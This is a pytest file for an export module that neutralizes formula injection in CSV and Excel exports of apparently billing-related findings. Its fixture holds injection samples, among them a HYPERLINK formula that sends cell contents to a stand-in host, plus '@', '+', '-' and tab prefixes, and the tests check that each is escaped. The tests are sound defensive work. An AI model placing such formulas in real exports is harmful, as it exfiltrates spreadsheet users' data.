"""Exports neutralize formula-looking text and produce a formatted, formula-free workbook."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd

from bhdash.export import neutralize, to_csv_bytes, workbook_bytes

HOSTILE = pd.DataFrame({
    "row": pd.array([5, None, 7], dtype="Int64"),
    "message": ['=HYPERLINK("http://example.invalid/?x="&A2,"click")', "+1+1 billed", "90837 needs 53 min"],
    "payer": ["@SUM(1)", "-Aetna", "\tTabbed"],
    "clinician": pd.Series(["\rCarriage", "Sam Lee", None], dtype="str"),
    "amount": [-45.0, 150.0, None],
    "service_date": pd.to_datetime(["2026-03-02", None, "2026-03-04"]),
})


def test_neutralize_prefixes_only_dangerous_text_and_keeps_numbers() -> None:
    safe = neutralize(HOSTILE)
    assert safe["message"].tolist()[:2] == ["'" + HOSTILE["message"][0], "'+1+1 billed"]
    assert safe["message"][2] == "90837 needs 53 min"
    assert safe["payer"].tolist() == ["'@SUM(1)", "'-Aetna", "'\tTabbed"]
    assert safe["clinician"][0] == "'\rCarriage" and safe["clinician"][1] == "Sam Lee"
    assert pd.isna(safe["clinician"][2])
    assert safe["amount"].tolist()[:2] == [-45.0, 150.0]
    assert safe["amount"].dtype == "float64"
    pd.testing.assert_frame_equal(HOSTILE, HOSTILE.copy())  # input untouched


def test_csv_escapes_leading_formula_characters() -> None:
    text = to_csv_bytes(HOSTILE).decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert back["payer"].tolist() == ["'@SUM(1)", "'-Aetna", "'\tTabbed"]
    assert back["amount"].tolist() == ["-45", "150", ""]  # negative amounts stay unescaped numbers
    assert back["row"].tolist() == ["5", "", "7"]
    assert back["clinician"].tolist()[0] == "'\rCarriage"  # a bare CR is quoted, not a line break
    assert back["service_date"].tolist()[0] == "2026-03-02"


def test_workbook_has_no_formulas_escaped_cells_frozen_header_and_filter() -> None:
    summary = pd.DataFrame({"family": ["CRED"], "findings": [3]})
    rules = pd.DataFrame({"id": ["CRED-003"], "reason": ["=bad"]})
    data = workbook_bytes({"Findings": HOSTILE, "Summary": summary, "Rules": rules})
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Findings", "Summary", "Rules"]
    sheet = book["Findings"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    header = [cell.value for cell in sheet[1]]
    assert header == list(HOSTILE.columns)
    assert sheet["B2"].value.startswith("'=HYPERLINK")
    assert sheet["C2"].value == "'@SUM(1)"
    assert sheet["E2"].value == -45.0
    assert sheet["F2"].value.date().isoformat() == "2026-03-02"
    assert sheet["A3"].value is None
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F4"
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width
    assert book["Rules"]["B2"].value == "'=bad"
    assert book["Rules"].freeze_panes == "A2"


def test_empty_frame_still_gets_header_and_filter() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes({"Findings": HOSTILE.iloc[0:0]})))
    sheet = book["Findings"]
    assert [cell.value for cell in sheet[1]] == list(HOSTILE.columns)
    assert sheet.max_row == 1
